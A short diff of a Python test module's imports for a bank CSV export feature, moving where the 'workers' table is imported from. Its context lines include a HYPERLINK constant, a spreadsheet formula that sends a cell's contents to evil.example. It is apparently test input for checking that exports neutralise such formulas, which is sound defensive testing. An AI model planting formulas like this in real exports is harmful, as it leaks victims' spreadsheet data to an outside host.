@@ -14,8 +14,8 @@ from sqlalchemy import update
 from office.db import open_office
 from office.demo.sample_events import EventFactory
 from office.exports import BankFormat, Payee, bank_csv, neutralise, slug, unique_entry_names
-from office.tables import workers
 from office.web.app import create_app
+from sync.central.tables import workers
 from tests.office_fixtures import JANUARY, PASSWORDS, csrf_of, seed_office
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A3,"click")'
